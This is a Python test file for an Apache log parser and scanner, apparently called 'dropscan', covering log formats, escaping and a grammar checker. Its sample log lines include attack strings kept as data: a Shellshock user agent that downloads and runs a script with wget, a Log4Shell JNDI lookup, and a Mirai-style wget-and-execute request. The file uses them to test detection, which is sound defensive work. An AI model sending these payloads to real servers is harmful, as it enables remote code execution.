"""Log formats: presets, LogFormat strings, Apache escaping, detection, and the chunk grammar."""

from __future__ import annotations

import functools
import itertools
import re
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import REAL_APACHE_LINES, SAMPLE_LOGS
from dropscan.detect.prefilter import HAVE_HYPERSCAN, GrammarCheck
from dropscan.errors import UsageError
from dropscan.formats.logformat import (
    LogFormat,
    apache_escape,
    apache_unescape,
    compile_format,
    detect_format,
    split_request,
)

COMBINED = compile_format("combined")


def test_real_apache_lines_parse_exactly():
    recs = [COMBINED.parse(line) for line in REAL_APACHE_LINES]
    assert all(r is not None for r in recs)
    shellshock, _, cafe, jndi, tls, trace, quote = recs
    assert shellshock.user_agent == '() { :; }; /bin/bash -c "wget http://198.51.100.7/a.sh -O /tmp/a.sh; sh /tmp/a.sh"'
    assert shellshock.status == 404 and shellshock.bytes == 493
    assert shellshock.time == datetime(2026, 11, 27, 17, 15, 3, tzinfo=UTC)
    assert cafe.target == "/café/\\xff?cmd=wget%20http%3A%2F%2F203.0.113.50%2Fx"  # invalid UTF-8 kept visible
    assert cafe.user_agent == "tab\there back\\slash"
    assert jndi.target == "//${jndi:ldap://198.51.100.9:1389/a}"
    assert (tls.method, tls.target, tls.protocol) == (None, "\x16\x03\x01", None)
    assert (trace.method, trace.target) == ("TRACE", "/")
    # the escaped-quote line: status comes from the real field, not from inside the request
    assert quote.request == 'GET /a"b HTTP/1.1' and quote.status == 404 and quote.referer == 'x" 200 1 "y'


def test_request_line_kept_whole():
    assert split_request("GET /shell?cd+/tmp;wget+ x6arch.ml/jaws;sh+/tmp/jaws") == (
        "GET",
        "/shell?cd+/tmp;wget+ x6arch.ml/jaws;sh+/tmp/jaws",
        None,
    )
    assert split_request("GET /a b c HTTP/1.1") == ("GET", "/a b c", "HTTP/1.1")
    assert split_request("-") == (None, "", None)
    assert split_request("/only-a-path") == (None, "/only-a-path", None)


def test_dash_request_and_missing_values():
    r = COMBINED.parse(b'192.0.2.1 - - [27/Nov/2026:08:00:01 +0100] "-" 408 0 "-" "-"')
    assert r.request == "-" and r.method is None and r.target == ""
    assert r.referer is None and r.user_agent is None and r.status == 408


def test_timezones_with_minutes():
    r = COMBINED.parse(b'1.2.3.4 - - [12/Mar/2024:10:15:32 +0530] "GET / HTTP/2.0" 200 1 "-" "-"')
    assert r.time.utcoffset() == timedelta(hours=5, minutes=30)
    r = COMBINED.parse(b'1.2.3.4 - - [12/Mar/2024:10:15:32 -0930] "GET / HTTP/2.0" 200 1 "-" "-"')
    assert r.time.utcoffset() == -timedelta(hours=9, minutes=30)


def test_bad_time_is_still_a_record():
    r = COMBINED.parse(b'1.2.3.4 - - [99/Foo/2024:10:15:32 +0000] "GET / HTTP/1.1" 200 1 "-" "-"')
    assert r is not None and r.time is None


def test_vhost_combined_and_custom_format():
    vc = compile_format("vhost_combined")
    r = vc.parse(
        b'shop.example.com:443 192.0.2.20 - - [27/Nov/2026:10:00:00 +0000] "GET /cart HTTP/2.0" 200 5121 "-" "ua"'
    )
    assert (r.vhost, r.server_port, r.client) == ("shop.example.com", 443, "192.0.2.20")
    fmt = LogFormat('%a %v %{%Y-%m-%d %H:%M:%S}t %>s "%r" "%{X-Forwarded-For}i" "%{User-agent}i" %D')
    r = fmt.parse(b'2001:db8::1 www 2026-11-27 10:00:00 200 "GET /x?a=1 HTTP/1.1" "198.51.100.1" "curl/8" 1234')
    assert r.client == "2001:db8::1" and r.vhost == "www" and r.status == 200
    assert r.time == datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
    assert r.headers == {"X-Forwarded-For": "198.51.100.1"} and r.user_agent == "curl/8"
    assert ("X-Forwarded-For", "198.51.100.1", b"198.51.100.1") in r.inspected_fields()


def test_status_prefers_final():
    fmt = LogFormat('%h %s %>s "%r"')
    assert fmt.parse(b'h 302 200 "GET / HTTP/1.1"').status == 200


def test_unknown_directive_and_format_are_clear_errors():
    with pytest.raises(UsageError, match="unknown LogFormat directive %J"):
        LogFormat("%h %J")
    with pytest.raises(UsageError, match="unknown log format 'combinedx'"):
        compile_format("combinedx")


def test_apache_unescape_only_undoes_what_apache_writes():
    assert apache_unescape(rb"a\"b\\c\x41\td") == 'a"b\\cA\td'
    assert apache_unescape(rb"%7\7") == r"%7\7"  # not an Apache escape: stays as written
    for text in ['x"y', "back\\slash", "ctl\x01\x1b", "café", "\x00"]:
        assert apache_unescape(apache_escape(text).encode()) == text


def test_detect_format(tmp_path):
    lines = (SAMPLE_LOGS / "other_vhosts_access.log").read_bytes().splitlines()
    assert detect_format(lines).name == "vhost_combined"
    assert detect_format((SAMPLE_LOGS / "access.log").read_bytes().splitlines()).name == "combined"
    common = [b'1.2.3.4 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326']
    assert detect_format(common).name == "common"
    assert detect_format([b"this is not a log", b"\x89PNG\r\n"]) is None


@pytest.mark.parametrize("use_hs", [False, True] if HAVE_HYPERSCAN else [False])
def test_grammar_rejects_exactly_the_lines_the_parser_rejects(use_hs):
    good = REAL_APACHE_LINES
    bad = [
        b"",
        b"garbage",
        b'1.2.3.4 - - [t] "unterminated 200 1 "-" "-"',
        b"\x00\x01\x02",
        REAL_APACHE_LINES[0] + b" trailing",
        REAL_APACHE_LINES[1][:40],
    ]
    lines = good[:3] + bad[:2] + good[3:] + bad[2:] + [good[0] + b"\r"]
    chunk = b"\n".join(lines) + b"\n"
    g = GrammarCheck(COMBINED, use_hyperscan=use_hs)
    rejected = g.rejected(chunk)
    got = [chunk[s:e].rstrip(b"\n") for s, e in rejected]
    assert got == [ln for ln in lines if COMBINED.parse(ln) is None]
    assert len(got) == len(bad)


def test_grammar_walks_blocks_larger_than_its_window():
    g = GrammarCheck(COMBINED, use_hyperscan=False)
    g.WALK_BLOCK = 300  # force many blocks, and lines cut by block ends
    lines = [REAL_APACHE_LINES[i % 7] for i in range(40)]
    lines[17] = b"junk line"
    lines[33] = b"x" * 700  # longer than a block
    chunk = b"\n".join(lines) + b"\n"
    got = [chunk[s:e] for s, e in g.rejected(chunk)]
    assert got == [b"junk line\n", b"x" * 700 + b"\n"]


def test_fixed_offset_timezone_objects_are_shared():
    a = COMBINED.parse(REAL_APACHE_LINES[0]).time.tzinfo
    b = COMBINED.parse(REAL_APACHE_LINES[1]).time.tzinfo
    assert a is b and a == UTC


def _unescape_reference(raw: bytes) -> str:
    """mod_log_config's escapes undone one match at a time (the definition apache_unescape's
    C-speed path must agree with)."""
    table = {b"t": b"\t", b"n": b"\n", b"r": b"\r", b"b": b"\b", b"v": b"\v", b"f": b"\f"}

    def one(m: re.Match[bytes]) -> bytes:
        esc = m.group(1)
        return bytes((int(esc[1:], 16),)) if len(esc) == 3 else table.get(esc, esc)

    return re.sub(rb'\\(x[0-9A-Fa-f]{2}|[\\"tnrbvf])', one, raw).decode("utf-8", "backslashreplace")


ESCAPE_PIECES = [b"\\", b"x", b"4", b"1", b"aF", b"g", b'"', b"t", b"q", b"0", b"\n", b"\xff", b"\xc3\xa9"]
ESCAPE_PIECES += [b"N{", b"u00", b"U", b"a", b"'", b"7", b"nrbvf"]  # Python escapes Apache does not write


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(ESCAPE_PIECES), max_size=30))
def test_apache_unescape_fast_path_agrees_with_the_definition(parts):
    raw = b"".join(parts)
    assert apache_unescape(raw) == _unescape_reference(raw)


def test_python_escapes_that_apache_does_not_write_stay_as_written():
    raw = rb"\a\'\101\N{DASH}\u0041\U00000041\x4"
    assert apache_unescape(raw) == raw.decode()
    assert apache_unescape(raw + rb"\\") == raw.decode() + "\\"


# --- properties: the parser takes any bytes, and the chunk grammar agrees with it ------------
CUSTOM = LogFormat('%v:%p %a %l %u [%{%d/%b/%Y:%H:%M:%S %z}t] "%r" %>s %O %D "%{Referer}i" "%{X-Forwarded-For}i"')
FORMATS = [COMBINED, compile_format("common"), compile_format("vhost_combined"), CUSTOM]
BASE_LINES = [
    *REAL_APACHE_LINES,
    b'www.example.com:443 203.0.113.1 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"',
    b'203.0.113.1 - frank [27/Nov/2026:10:00:00 +0000] "GET /a b HTTP/1.0" 404 -',
    b'h:80 203.0.113.1 - - [27/Nov/2026:10:00:00 +0000] "GET /x HTTP/1.1" 200 9 1234 "-" "198.51.100.1, 10.0.0.1"',
]
EDITS = [b'"', b"\\", b'\\"', b"\\x4", b"\\x41", b" ", b"\r", b"\x00", b"[", b"]", b"-", b"200", b"\xff", b"\t", b":"]


@st.composite
def log_lines(draw) -> bytes:
    """A real line with a few edits (inserted quotes, escapes, NULs, CRs, cuts), or junk."""
    if draw(st.booleans()):
        return draw(st.binary(max_size=60)).replace(b"\n", b"")
    line = bytearray(draw(st.sampled_from(BASE_LINES)))
    for _ in range(draw(st.integers(0, 4))):
        i = draw(st.integers(0, len(line)))
        op = draw(st.sampled_from(["insert", "delete", "cut"]))
        if op == "insert":
            line[i:i] = draw(st.sampled_from(EDITS))
        elif op == "delete":
            del line[i : i + draw(st.integers(1, 6))]
        else:
            del line[i:]
    return bytes(line)


@settings(max_examples=400, deadline=None)
@given(log_lines())
def test_the_parser_takes_any_bytes(line):
    for fmt in FORMATS:
        rec = fmt.parse(line)  # never raises
        assert (rec is not None) == fmt.match(line)
        if rec is not None:
            assert all(isinstance(v, str) for _n, v, *_raw in rec.inspected_fields())
    detect_format([line, line + b"\r"])


@functools.cache
def _grammar(fmt: LogFormat, use_hs: bool) -> GrammarCheck:
    return GrammarCheck(fmt, use_hyperscan=use_hs)


@pytest.mark.parametrize("use_hs", [False, True] if HAVE_HYPERSCAN else [False])
@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(log_lines(), st.sampled_from([b"\n", b"\r\n"])), min_size=1, max_size=12))
def test_the_chunk_grammar_rejects_exactly_what_the_parser_rejects(use_hs, lines):
    chunk = b"".join(ln + eol for ln, eol in lines)
    for fmt in FORMATS:
        spans = _grammar(fmt, use_hs).rejected(chunk)
        starts = [0]
        for ln, eol in lines:
            starts.append(starts[-1] + len(ln) + len(eol))
        pairs = zip(itertools.pairwise(starts), lines, strict=True)
        want = [(a, b) for (a, b), (ln, eol) in pairs if fmt.parse(ln + eol) is None]
        assert spans == want, fmt.name
